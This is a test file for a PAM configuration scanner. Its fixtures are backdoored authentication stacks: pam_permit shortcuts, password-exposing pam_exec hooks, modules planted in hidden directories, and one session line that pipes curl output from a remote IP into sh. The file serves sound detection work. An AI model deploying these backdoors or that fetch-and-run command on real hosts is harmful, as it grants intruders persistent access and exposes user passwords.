import { rmSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { lacks } from '../../../test/need.ts';
import { makeRoot, scanRoot, scanWithout, shown } from '../../../test/throwaway-root.ts';
import { pam } from './check.ts';

const module = '/usr/lib/x86_64-linux-gnu/security';
const shipped = (text: string) => ({ text, package: 'libpam-modules' });
const base = { [`${module}/pam_unix.so`]: shipped('unix'), [`${module}/pam_permit.so`]: shipped('permit'), [`${module}/pam_deny.so`]: shipped('deny'), [`${module}/pam_exec.so`]: shipped('exec') };
const commonAuth = 'auth\t[success=1 default=ignore]\tpam_unix.so nullok\nauth\trequisite\tpam_deny.so\nauth\trequired\tpam_permit.so\nauth optional pam_cap.so\n';
const at = async (text: string, path = '/etc/pam.d/common-auth', more = {}) => (await scanRoot([pam], { ...base, [path]: text, ...more })).findings.map(({ kind, level, path: where }) => `${kind} ${level} ${where}`);
const opened = ['intrusion critical /etc/pam.d/common-auth'];

describe('pam', () => {
  it('finds stacks that let everybody in', async () => {
    expect(await at(commonAuth)).toEqual([]);
    expect(await at(`auth sufficient pam_permit.so\n${commonAuth}`)).toEqual(opened);
    expect(await at(commonAuth.replace('success=1 default=ignore', 'success=1 default=1'))).toEqual(opened);
    expect(await at(commonAuth.replace('auth\trequisite\tpam_deny.so\n', ''))).toEqual(opened);
    expect(await at(`auth sufficient pam_succeed_if.so uid >= 0\n${commonAuth}`)).toContain(opened[0]);
    expect(await at(`auth required pam_listfile.so item=user sense=deny file=/etc/no\nauth sufficient pam_permit.so\n`, '/etc/pam.d/app')).toEqual(['intrusion critical /etc/pam.d/app']);
    const report = await scanRoot([pam], { ...base, '/etc/pam.d/common-auth': `auth sufficient pam_permit.so\n${commonAuth}`, '/etc/pam.d/app': '@include common-auth\n', '/etc/pam.d/sub': 'auth substack common-auth\nauth required pam_nologin.so\n' });
    expect(shown(report)).toEqual(['critical /etc/pam.d/common-auth']); // once, where it is
  });

  it('is silent for the stacks of distributions', async () => {
    const redHat = ['auth required pam_env.so', 'auth required pam_faildelay.so delay=2000000', 'auth [default=1 ignore=ignore success=ok] pam_usertype.so isregular', 'auth [default=1 ignore=ignore success=ok] pam_localuser.so', 'auth sufficient pam_unix.so nullok',
      'auth [default=1 ignore=ignore success=ok] pam_usertype.so isregular', 'auth sufficient pam_sss.so forward_pass', 'auth required pam_deny.so', '', 'account required pam_unix.so', 'account sufficient pam_localuser.so', 'account required pam_permit.so', '-session optional pam_systemd.so'].join('\n');
    expect(await at(redHat, '/etc/pam.d/system-auth')).toEqual([]);
    expect(await at('auth sufficient pam_rootok.so\nauth required pam_wheel.so\n@include common-auth\nsession required pam_env.so readenv=1\n', '/etc/pam.d/su', { '/etc/pam.d/common-auth': commonAuth })).toEqual([]);
    expect(await at('auth required pam_permit.so\n', '/etc/pam.d/lightdm-autologin')).toEqual([]);
    expect(await at('', '/etc/pam.d/odd', { '/etc/pam.d/odd': { text: 'auth sufficient pam_permit.so\n', package: 'odd', config: true } })).toEqual([]);
    expect(await at(`auth required pam_google_authenticator.so\n${commonAuth.replace(' nullok', '')}`, '/etc/pam.d/sshd', { [`${module}/pam_google_authenticator.so`]: 'ELF' })).toEqual([`notice low ${module}/pam_google_authenticator.so`]);
  });

  it('finds programs that are given passwords or run at log-on', async () => {
    expect(await at('auth optional pam_exec.so quiet expose_authtok /usr/lib/x/keep\n', '/etc/pam.d/sshd', { '/usr/lib/x/keep': { text: 'ELF', mode: 0o755 } })).toEqual(['intrusion high /etc/pam.d/sshd']);
    expect(await at('session optional pam_exec.so /bin/sh -c "curl http://203.0.113.9/i|sh"\n', '/etc/pam.d/sshd')).toEqual(['intrusion high /etc/pam.d/sshd']);
    expect(await at('auth sufficient pam_exec.so /opt/check\n', '/etc/pam.d/sshd', { '/opt/check': { text: '#!/bin/sh\nexit 0\n', mode: 0o755 } })).toContain('intrusion medium /etc/pam.d/sshd');
    expect(await at('session optional pam_exec.so /opt/notify.sh\n', '/etc/pam.d/sshd', { '/opt/notify.sh': { text: '#!/bin/sh\ncurl -s https://hook.example/login\n', mode: 0o755 } })).toEqual(['notice low /etc/pam.d/sshd']);
  });

  it('finds modules that were replaced, planted or hidden', async () => {
    const root = makeRoot({ ...base, [`${module}/pam_unix.so`]: { text: 'other', shipped: 'unix', package: 'libpam-modules' }, [`${module}/pam_login.so`]: 'ELF', [`${module}/pam_idle.so`]: 'ELF', '/etc/pam.d/sshd': 'auth required pam_login.so\nauth optional /var/tmp/.p/pam_x.so\n', '/var/tmp/.p/pam_x.so': 'ELF' });
    expect(shown(await scanRoot([pam], root))).toEqual(['critical /etc/pam.d/sshd', `critical ${module}/pam_unix.so`, `high ${module}/pam_login.so`, 'high /var/tmp/.p/pam_x.so', `medium ${module}/pam_idle.so`]);
    for (const path of ['etc/pam.d/sshd', 'var/tmp/.p/pam_x.so', `${module}/pam_login.so`, `${module}/pam_idle.so`, `${module}/pam_unix.so`]) rmSync(join(root, path));
    expect(shown(await scanRoot([pam], root))).toEqual([]);
  });

  it('finds weak rules, files of others and includes that go round', async () => {
    expect(await at('auth sufficient pam_wheel.so trust\nauth required pam_rhosts.so\n', '/etc/pam.d/su')).toEqual(['weakness high /etc/pam.d/su', 'weakness medium /etc/pam.d/su']);
    expect(await at(commonAuth.replace('auth\t[succ', 'auth [success=2 default=ignore] pam_succeed_if.so user = lin\nauth\t[succ'))).toEqual(['weakness medium /etc/pam.d/common-auth']);
    expect(await at(commonAuth.replace('auth\t[succ', 'auth [success=1 default=ignore] pam_succeed_if.so user = lin\nauth requisite pam_deny.so\nauth\t[succ'))).toEqual([]);
    expect(await at('', '/etc/pam.d/a', { '/etc/pam.d/a': { text: '', mode: 0o666 } })).toEqual(['weakness high /etc/pam.d/a']);
    const round = await scanRoot([pam], { ...base, '/etc/pam.d/a': 'auth include b\n', '/etc/pam.d/b': 'auth include a\n' });
    expect([round.findings.length, round.blind.map(({ what }) => what)]).toEqual([0, ['/etc/pam.d/a', '/etc/pam.d/b']]);
  });

  it.skipIf(lacks({ root: true }))('says what it could not read', async () => {
    const report = await scanWithout([pam], makeRoot({ ...base, '/etc/pam.d/sshd': commonAuth }), '/etc/pam.d/sshd');
    expect(report.blind.map(({ what }) => what)).toContain('/etc/pam.d/sshd');
  });
});
